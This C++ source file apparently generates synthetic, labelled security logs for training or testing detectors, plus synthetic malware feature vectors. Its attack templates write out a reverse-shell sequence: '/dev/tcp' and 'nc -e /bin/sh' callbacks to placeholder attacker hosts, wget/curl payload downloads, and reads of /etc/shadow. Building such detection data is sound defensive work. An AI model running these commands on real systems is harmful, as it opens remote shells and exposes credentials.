#include <algorithm>
#include <array>
#include <cmath>
#include <cstdio>
#include <string>
#include <vector>

#include "aisoc/corpus.hpp"
#include "aisoc/rng.hpp"

namespace aisoc {
namespace {

struct Template {
    Channel channel;
    const char* text;
};

// Benign grammar. Placeholders are expanded by fill().
constexpr std::array<Template, 31> kBenignTemplates{{
    {Channel::Auth, "sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2"},
    {Channel::Auth, "sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"},
    {Channel::Auth, "sshd[{pid}]: pam_unix(sshd:session): session opened for user {user} by (uid=0)"},
    {Channel::Auth, "sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}"},
    {Channel::Auth, "sudo: {user} : TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/apt-get update"},
    {Channel::Auth, "CRON[{pid}]: pam_unix(cron:session): session opened for user root by (uid=0)"},
    {Channel::Auth, "systemd-logind[{pid}]: New session {small} of user {user}."},
    {Channel::Auth, "systemd-logind[{pid}]: Removed session {small}."},
    {Channel::Auth, "sshd[{pid}]: Received disconnect from {ip} port {port}:11: disconnected by user"},
    {Channel::Auth, "sudo: pam_unix(sudo:session): session opened for user root by {user}(uid={uid})"},
    {Channel::Process, "CRON[{pid}]: (root) CMD (/usr/local/bin/backup.sh --daily)"},
    {Channel::Process, "CRON[{pid}]: (root) CMD (bash /opt/scripts/rotate-logs.sh)"},
    {Channel::Process, "audit: type=EXECVE pid={pid} exe=/usr/bin/python3 args=\"/opt/app/worker.py --queue jobs\""},
    {Channel::Process, "audit: type=EXECVE pid={pid} exe=/usr/bin/curl args=\"-s http://{lan}:8080/healthz\""},
    {Channel::Process, "audit: type=EXECVE pid={pid} exe=/usr/bin/apt-get args=\"upgrade -y\""},
    {Channel::Process, "audit: type=EXECVE pid={pid} exe=/usr/bin/nc args=\"-z {lan} 5432\""},
    {Channel::Process, "systemd[1]: Started {svc}.service."},
    {Channel::Process, "systemd[1]: Stopping {svc}.service..."},
    {Channel::Process, "dockerd[{pid}]: container {hex} started image=nginx:1.25"},
    {Channel::Process, "audit: type=EXECVE pid={pid} exe=/usr/bin/git args=\"pull origin main\""},
    {Channel::System, "kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT={port}"},
    {Channel::System, "systemd-timesyncd[{pid}]: Synchronized to time server 91.189.94.4:123 (ntp.ubuntu.com)."},
    {Channel::System, "kernel: EXT4-fs (nvme0n1p1): mounted filesystem with ordered data mode"},
    {Channel::System, "rsyslogd: [origin software=\"rsyslogd\"] rsyslogd was HUPed"},
    {Channel::System, "dhclient[{pid}]: DHCPACK of {lan} from 172.31.0.1"},
    {Channel::System, "amazon-ssm-agent[{pid}]: INFO [HealthCheck] HealthCheck reporting agent health."},
    {Channel::System, "filebeat[{pid}]: Non-zero metrics in the last 30s"},
    {Channel::System, "systemd[1]: Starting Daily apt download activities..."},
    {Channel::System, "kernel: TCP: request_sock_TCP: Possible SYN flooding on port 80. Sending cookies."},
    {Channel::System, "nginx[{pid}]: {ip} - - \"GET /index.html HTTP/1.1\" 200 {size}"},
    {Channel::System, "postgres[{pid}]: LOG: checkpoint complete: wrote {small} buffers"},
}};

// Reverse-shell session: one step per entry, one of the variants is chosen.
struct AttackStep {
    Channel channel;
    std::array<const char*, 3> variants;
};

constexpr std::array<AttackStep, kAttackSessionSteps> kAttackSteps{{
    {Channel::System,
     {"kernel: [UFW ALLOW] IN=eth0 OUT= SRC={atk} DST={lan} PROTO=TCP DPT={vport} SYN",
      "{vsvc}[{pid}]: connection from {atk}:{aport} accepted, payload length {size}",
      "kernel: TCP inbound connection {atk}:{aport} -> {lan}:{vport} established"}},
    {Channel::Process,
     {"audit: type=EXECVE pid={pid} exe=/bin/bash args=\"-i\" ppid={ppid} parent={vsvc}",
      "audit: type=EXECVE pid={pid} exe=/bin/sh args=\"-c bash -i >& /dev/tcp/{atk}/{lport} 0>&1\"",
      "audit: type=EXECVE pid={pid} exe=/usr/bin/python3 args=\"-c import pty;pty.spawn('/bin/bash')\""}},
    {Channel::Process,
     {"audit: type=EXECVE pid={pid} exe=/usr/bin/whoami uid=33",
      "audit: type=EXECVE pid={pid} exe=/usr/bin/id uid=33 tty=none",
      "audit: type=EXECVE pid={pid} exe=/usr/bin/whoami parent=bash uid=33"}},
    {Channel::Process,
     {"audit: type=EXECVE pid={pid} exe=/bin/uname args=\"-a\" uid=33",
      "audit: type=EXECVE pid={pid} exe=/usr/bin/hostname uid=33 parent=bash",
      "audit: type=EXECVE pid={pid} exe=/bin/uname args=\"-r\" parent=sh"}},
    {Channel::Process,
     {"audit: type=EXECVE pid={pid} exe=/bin/cat args=\"/etc/passwd\" uid=33",
      "audit: type=EXECVE pid={pid} exe=/bin/cat args=\"/etc/shadow\" uid=33",
      "audit: type=EXECVE pid={pid} exe=/usr/bin/find args=\"/ -perm -4000 -type f\""}},
    {Channel::Process,
     {"audit: type=EXECVE pid={pid} exe=/bin/netstat args=\"-antp\" uid=33",
      "audit: type=EXECVE pid={pid} exe=/bin/ps args=\"aux\" parent=bash uid=33",
      "audit: type=EXECVE pid={pid} exe=/sbin/ifconfig uid=33 parent=sh"}},
    {Channel::Process,
     {"audit: type=EXECVE pid={pid} exe=/usr/bin/wget args=\"http://{atk}/{payload} -O /tmp/{payload}\"",
      "audit: type=EXECVE pid={pid} exe=/usr/bin/curl args=\"-o /tmp/{payload} http://{atk}:{lport}/{payload}\"",
      "audit: type=EXECVE pid={pid} exe=/bin/chmod args=\"+x /tmp/{payload}\" uid=33"}},
    {Channel::System,
     {"kernel: [UFW ALLOW] IN= OUT=eth0 SRC={lan} DST={atk} PROTO=TCP DPT={lport} beacon",
      "audit: type=EXECVE pid={pid} exe=/bin/nc args=\"{atk} {lport} -e /bin/sh\"",
      "kernel: outbound connection {lan} -> {atk}:{lport} reverse shell keepalive"}},
}};

constexpr std::array<const char*, 8> kUsers{"ubuntu", "deploy", "alice", "bob", "ci-runner",
                                             "backup", "admin", "ec2-user"};
constexpr std::array<const char*, 6> kServices{"nginx", "postgresql", "docker", "filebeat",
                                               "amazon-ssm-agent", "unattended-upgrades"};
constexpr std::array<const char*, 4> kVulnServices{"apache2", "tomcat9", "vsftpd", "distccd"};
constexpr std::array<const char*, 5> kPayloads{"x.sh", "update", ".cache.elf", "kworker",
                                               "lin.sh"};
constexpr std::array<int, 4> kListenPorts{4444, 4445, 9001, 1337};
constexpr std::array<int, 4> kVulnPorts{80, 8080, 21, 3632};

std::string ipv4(int a, int b, int c, int d) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%d.%d.%d.%d", a, b, c, d);
    return buf;
}

struct Context {
    std::string lan;
    std::string atk;
    std::string vsvc;
    std::string payload;
    int lport = 4444;
    int vport = 80;
};

std::string fill(std::string_view text, Rng& rng, const Context& ctx) {
    std::string out;
    out.reserve(text.size() + 32);
    std::size_t i = 0;
    while (i < text.size()) {
        if (text[i] != '{') {
            out.push_back(text[i++]);
            continue;
        }
        const auto close = text.find('}', i);
        const auto key = text.substr(i + 1, close - i - 1);
        i = close + 1;
        if (key == "pid" || key == "ppid") {
            out += std::to_string(rng.between(300, 65000));
        } else if (key == "user") {
            out += rng.pick(kUsers);
        } else if (key == "ip") {
            // Sequenced draws: argument evaluation order is unspecified.
            const int a = static_cast<int>(rng.between(11, 190));
            const int b = static_cast<int>(rng.between(0, 255));
            const int c = static_cast<int>(rng.between(0, 255));
            const int d = static_cast<int>(rng.between(1, 254));
            out += ipv4(a, b, c, d);
        } else if (key == "lan") {
            out += ctx.lan;
        } else if (key == "atk") {
            out += ctx.atk;
        } else if (key == "port" || key == "aport") {
            out += std::to_string(rng.between(1024, 65535));
        } else if (key == "small") {
            out += std::to_string(rng.between(0, 40));
        } else if (key == "uid") {
            out += std::to_string(rng.between(1000, 1010));
        } else if (key == "svc") {
            out += rng.pick(kServices);
        } else if (key == "vsvc") {
            out += ctx.vsvc;
        } else if (key == "hex") {
            char buf[16];
            std::snprintf(buf, sizeof buf, "%012llx",
                          static_cast<unsigned long long>(rng.next() & 0xFFFFFFFFFFFFULL));
            out += buf;
        } else if (key == "size") {
            out += std::to_string(rng.between(200, 9000));
        } else if (key == "lport") {
            out += std::to_string(ctx.lport);
        } else if (key == "vport") {
            out += std::to_string(ctx.vport);
        } else if (key == "payload") {
            out += ctx.payload;
        } else {
            out.append("{").append(key).append("}");
        }
    }
    return out;
}

struct Pending {
    LogRecord record;
    std::size_t seq;
};

}  // namespace

std::vector<LogRecord> generate_corpus(const ScenarioConfig& sc) {
    if (sc.benign_hosts <= 0) throw ConfigError("benign_hosts must be positive");
    if (sc.attack_sessions < 0) throw ConfigError("attack_sessions must be non-negative");
    if (sc.duration_s <= 0) throw ConfigError("duration must be positive");
    if (!(sc.benign_interval_s > 0.0)) throw ConfigError("benign_interval_s must be positive");
    if (sc.start_ms < 0) throw ConfigError("start time must be non-negative");

    constexpr std::int64_t kStepGapMaxMs = 3000;
    constexpr std::int64_t kMinSlotMs = 2 * kStepGapMaxMs * static_cast<std::int64_t>(kAttackSessionSteps);
    const std::int64_t duration_ms = sc.duration_s * 1000;
    if (sc.attack_sessions > 0 && duration_ms / sc.attack_sessions < kMinSlotMs) {
        throw ConfigError("duration too short for the requested attack sessions (need >= " +
                          std::to_string(kMinSlotMs / 1000) + " s per session)");
    }

    Rng rng(sc.seed);
    std::vector<std::string> hosts;
    std::vector<std::string> host_ips;
    for (std::int64_t h = 0; h < sc.benign_hosts; ++h) {
        char name[32];
        std::snprintf(name, sizeof name, "web-%02lld", static_cast<long long>(h + 1));
        hosts.emplace_back(name);
        const int subnet = static_cast<int>(rng.between(0, 63));
        const int host = static_cast<int>(rng.between(2, 250));
        host_ips.push_back(ipv4(172, 31, subnet, host));
    }

    std::vector<Pending> out;
    std::size_t seq = 0;

    // Attack sessions first so benign events overlapping them can be dropped.
    struct Window {
        std::int64_t begin, end;
        std::size_t host;
    };
    std::vector<Window> windows;
    const std::int64_t slot = sc.attack_sessions > 0 ? duration_ms / sc.attack_sessions : 0;
    for (std::int64_t s = 0; s < sc.attack_sessions; ++s) {
        Context ctx;
        const auto victim = static_cast<std::size_t>(rng.below(hosts.size()));
        ctx.lan = host_ips[victim];
        ctx.atk = rng.bernoulli(0.5)
                      ? ipv4(203, 0, 113, static_cast<int>(rng.between(2, 250)))
                      : ipv4(198, 51, 100, static_cast<int>(rng.between(2, 250)));
        ctx.vsvc = rng.pick(kVulnServices);
        ctx.payload = rng.pick(kPayloads);
        ctx.lport = rng.pick(kListenPorts);
        ctx.vport = rng.pick(kVulnPorts);

        const std::int64_t session_span_max = kStepGapMaxMs * static_cast<std::int64_t>(kAttackSessionSteps);
        std::int64_t t = sc.start_ms + s * slot + rng.between(1000, slot - session_span_max - 1000);
        const std::int64_t begin = t;
        for (const auto& step : kAttackSteps) {
            LogRecord r;
            r.timestamp = t;
            r.host = hosts[victim];
            r.channel = step.channel;
            r.message = fill(step.variants[rng.below(step.variants.size())], rng, ctx);
            r.label = Label::Malicious;
            r.origin = Origin::Generated;
            out.push_back({std::move(r), seq++});
            t += rng.between(200, kStepGapMaxMs);
        }
        const std::int64_t end = t - 1;  // last attack record is strictly before t
        windows.push_back({begin, end, victim});

        // Session separator: one benign record right after the session.
        const auto& tpl = kBenignTemplates[rng.below(kBenignTemplates.size())];
        LogRecord sep;
        sep.timestamp = end + 1;
        sep.host = hosts[victim];
        sep.channel = tpl.channel;
        sep.message = fill(tpl.text, rng, ctx);
        sep.label = Label::Benign;
        sep.origin = Origin::Generated;
        out.push_back({std::move(sep), seq++});
    }

    const auto in_window = [&](std::int64_t t) {
        return std::any_of(windows.begin(), windows.end(),
                           [t](const Window& w) { return t >= w.begin && t <= w.end + 1; });
    };

    const auto interval_ms = static_cast<std::int64_t>(std::llround(sc.benign_interval_s * 1000.0));
    for (std::size_t h = 0; h < hosts.size(); ++h) {
        Context ctx;
        ctx.lan = host_ips[h];
        std::int64_t t = sc.start_ms + rng.between(0, interval_ms);
        while (t < sc.start_ms + duration_ms) {
            const auto& tpl = kBenignTemplates[rng.below(kBenignTemplates.size())];
            std::string message = fill(tpl.text, rng, ctx);
            if (!in_window(t)) {
                LogRecord r;
                r.timestamp = t;
                r.host = hosts[h];
                r.channel = tpl.channel;
                r.message = std::move(message);
                r.label = Label::Benign;
                r.origin = Origin::Generated;
                out.push_back({std::move(r), seq++});
            }
            t += std::max<std::int64_t>(1, interval_ms / 4 + rng.between(0, interval_ms * 3 / 2));
        }
    }

    std::sort(out.begin(), out.end(), [](const Pending& a, const Pending& b) {
        if (a.record.timestamp != b.record.timestamp) return a.record.timestamp < b.record.timestamp;
        return a.seq < b.seq;
    });
    std::vector<LogRecord> records;
    records.reserve(out.size());
    for (auto& p : out) records.push_back(std::move(p.record));
    return records;
}

// ---------------------------------------------------------------------------

namespace {

struct FeatureModel {
    const char* name;
    double benign_mean, benign_sd;
    double malicious_mean, malicious_sd;
    double lo, hi;
    bool integral;
};

constexpr std::array<FeatureModel, 12> kMalwareFeatures{{
    {"file_size_kb", 900.0, 400.0, 350.0, 250.0, 4.0, 1e5, false},
    {"section_entropy", 5.6, 0.5, 7.2, 0.35, 0.0, 8.0, false},
    {"num_sections", 5.0, 1.2, 7.5, 1.8, 1.0, 40.0, true},
    {"num_imports", 140.0, 45.0, 35.0, 20.0, 0.0, 2000.0, true},
    {"num_exports", 12.0, 8.0, 1.5, 1.5, 0.0, 500.0, true},
    {"has_signature", 0.85, 0.0, 0.1, 0.0, 0.0, 1.0, true},
    {"suspicious_api_count", 2.0, 1.5, 11.0, 3.5, 0.0, 100.0, true},
    {"packer_detected", 0.05, 0.0, 0.7, 0.0, 0.0, 1.0, true},
    {"virtual_size_ratio", 1.1, 0.15, 2.4, 0.7, 0.1, 50.0, false},
    {"resource_entropy", 4.2, 0.8, 6.6, 0.7, 0.0, 8.0, false},
    {"embedded_urls", 1.0, 1.0, 6.0, 3.0, 0.0, 200.0, true},
    {"timestamp_anomaly", 0.03, 0.0, 0.45, 0.0, 0.0, 1.0, true},
}};

}  // namespace

const std::vector<std::string>& malware_feature_names() {
    static const std::vector<std::string> names = [] {
        std::vector<std::string> v;
        for (const auto& f : kMalwareFeatures) v.emplace_back(f.name);
        return v;
    }();
    return names;
}

std::vector<MalwareSample> generate_malware(const MalwareScenarioConfig& config) {
    if (config.samples == 0) throw ConfigError("malware sample count must be positive");
    if (config.malicious_fraction < 0.0 || config.malicious_fraction > 1.0)
        throw ConfigError("malicious_fraction must be in [0,1]");
    if (config.overlap < 0.0 || config.overlap > 1.0) throw ConfigError("overlap must be in [0,1]");

    Rng rng(derive_seed(config.seed, 0x6D616C77));
    const auto n_mal = static_cast<std::size_t>(
        std::llround(config.malicious_fraction * static_cast<double>(config.samples)));
    std::vector<MalwareSample> samples;
    samples.reserve(config.samples);
    for (std::size_t i = 0; i < config.samples; ++i) {
        const bool malicious = i < n_mal;
        const bool swapped = rng.bernoulli(config.overlap);
        const bool draw_malicious = malicious != swapped;
        MalwareSample s;
        char id[24];
        std::snprintf(id, sizeof id, "m-%05zu", i);
        s.sample_id = id;
        s.label = malicious ? Label::Malicious : Label::Benign;
        for (const auto& f : kMalwareFeatures) {
            const double mean = draw_malicious ? f.malicious_mean : f.benign_mean;
            const double sd = draw_malicious ? f.malicious_sd : f.benign_sd;
            double v;
            if (sd == 0.0) {
                v = rng.bernoulli(draw_malicious ? f.malicious_mean : f.benign_mean) ? 1.0 : 0.0;
            } else {
                v = rng.normal(mean, sd);
            }
            v = std::clamp(v, f.lo, f.hi);
            if (f.integral) v = std::round(v);
            s.features.push_back(v);
        }
        samples.push_back(std::move(s));
    }
    // Interleave classes deterministically so the table is not sorted by label.
    rng.shuffle(std::span(samples));
    for (std::size_t i = 0; i < samples.size(); ++i) {
        char id[24];
        std::snprintf(id, sizeof id, "m-%05zu", i);
        samples[i].sample_id = id;
    }
    return samples;
}

}  // namespace aisoc
